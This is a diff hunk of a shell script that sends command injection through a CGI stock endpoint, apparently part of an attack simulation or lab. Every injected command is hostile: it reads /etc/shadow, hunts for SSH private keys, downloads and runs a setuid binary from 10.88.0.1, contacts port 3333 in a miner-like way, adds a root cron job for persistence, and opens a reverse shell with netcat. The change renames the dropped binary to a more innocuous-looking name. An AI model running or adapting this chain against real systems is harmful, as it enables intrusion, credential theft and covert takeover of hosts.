@@ -19,13 +19,13 @@ web() { curl -s -G --data-urlencode "$1" "http://$SHOP:8080/cgi-bin/stock.sh" > 
 web 'id; uname -s; ps'
 web 'cat /etc/shadow'
 web 'grep -rl "PRIVATE KEY" /home; find /home /root -name id_rsa -type f'
-web 'wget -q -O /tmp/kworkerd http://10.88.0.1:8000/kworkerd; chmod 755 /tmp/kworkerd; chmod u+s /tmp/kworkerd; ls -l /tmp'
-web '/tmp/kworkerd hostname'
-web 'cp /tmp/kworkerd /dev/shm/kworkerd; /dev/shm/kworkerd uptime'
-web 'echo "{\"method\":\"login\"}" | /tmp/kworkerd nc -w 1 10.88.0.1 3333'
+web 'wget -q -O /tmp/busybox-worker http://10.88.0.1:8000/busybox-worker; chmod 755 /tmp/busybox-worker; chmod u+s /tmp/busybox-worker; ls -l /tmp'
+web '/tmp/busybox-worker hostname'
+web 'cp /tmp/busybox-worker /dev/shm/busybox-worker; /dev/shm/busybox-worker uptime'
+web 'echo "{\"method\":\"login\"}" | /tmp/busybox-worker nc -w 1 10.88.0.1 3333'
 web 'ln -s /etc/shadow /www/stock.txt; ln /etc/passwd /tmp/users'
-web 'echo "* * * * * root /tmp/kworkerd" > /etc/cron.d/kworkerd'
-busybox nc -l -p 4444 -w 3 <<< 'id; hostname; exit' > /dev/null &
+web 'echo "* * * * * root /tmp/busybox-worker" > /etc/cron.d/worker'
+nc -l -p 4444 -w 3 <<< 'id; hostname; exit' > /dev/null &
 sleep 0.5
 web 'nc 10.88.0.1 4444 -e /bin/sh'
 wait
